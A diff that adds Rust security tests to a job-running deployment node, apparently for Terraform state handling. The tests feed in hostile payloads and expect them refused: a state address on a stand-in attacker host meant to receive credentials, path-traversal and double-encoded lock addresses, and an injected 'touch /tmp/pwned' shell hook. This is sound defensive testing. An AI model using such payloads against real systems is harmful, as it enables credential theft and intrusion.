@@ -289,3 +289,48 @@ fn one_deploy_per_namespace_however_the_namespace_is_named() {
     // Positive control: once the first is done, the same second job runs.
     f.jobenv(jobenv_bin!()).verb("apply").payload(&by_address).expect_success().run();
 }
+
+#[test]
+fn the_nodes_state_credentials_never_go_to_an_address_a_job_chose() {
+    let mut node = Node::new();
+    node.f.secret("TF_HTTP_USERNAME", "node-state-user").secret("TF_HTTP_PASSWORD", "node-state-password-9");
+    let payload = json!({"ATTRIBUTE": "web", "TF_HTTP_ADDRESS": "https://attacker.example/steal/team-a"});
+    node.refused("apply", &payload, "the node sets TF_HTTP_USERNAME but no STATE_BASE_ADDRESS");
+    // Positive control: with the node's own base, the same credentials go there.
+    node.f.node("STATE_BASE_ADDRESS", "https://state.example/tf");
+    node.job("apply", &json!({"ATTRIBUTE": "web", "TF_HTTP_ADDRESS": ADDRESS})).expect_success().run();
+    let env = node.program_env().expect("the program ran");
+    assert_eq!(env["TF_HTTP_ADDRESS"], ADDRESS);
+}
+
+#[test]
+fn a_base_address_with_credentials_outside_a_secrets_source_is_refused() {
+    let mut node = Node::new();
+    node.f.node("STATE_BASE_ADDRESS", "https://tfuser:hunter2-base-pw@state.example/tf");
+    let done = node.refused("apply", &json!({"ATTRIBUTE": "web", "NAMESPACE": "team-a"}), "STATE_BASE_ADDRESS (value not shown) is invalid: carries credentials outside a secrets source");
+    assert!(!done.stderr.contains("hunter2"), "{done:?}");
+}
+
+#[test]
+fn a_lock_address_a_server_might_decode_elsewhere_is_refused() {
+    let node = Node::new();
+    for lock in [format!("{ADDRESS}/..;/team-b/lock"), format!("{ADDRESS}/%252e%252e/team-b"), format!("{ADDRESS}/lock;x")] {
+        let payload = json!({"ATTRIBUTE": "web", "TF_HTTP_ADDRESS": ADDRESS, "TF_HTTP_LOCK_ADDRESS": lock});
+        node.refused("apply", &payload, "must have path segments of letters, digits and . _ ~ - only");
+    }
+}
+
+#[test]
+fn a_long_payload_password_is_refused_before_it_becomes_redaction_needles() {
+    let node = Node::new();
+    let payload = json!({"ATTRIBUTE": "web", "TF_HTTP_ADDRESS": ADDRESS, "TF_HTTP_PASSWORD": "ä".repeat(3000)});
+    node.refused("apply", &payload, "the payload's TF_HTTP_PASSWORD is longer than 4096 bytes");
+}
+
+#[test]
+fn stdenv_hooks_and_phases_are_reserved_even_when_declared() {
+    let mut node = Node::new();
+    node.f.declare("preHook", None).declare("shellHook", None);
+    let payload = json!({"ATTRIBUTE": "web", "NAMESPACE": "team-a", "preHook": "touch /tmp/pwned", "shellHook": "x"});
+    node.refused("apply", &payload, "payload rejected: reserved keys: preHook, shellHook");
+}
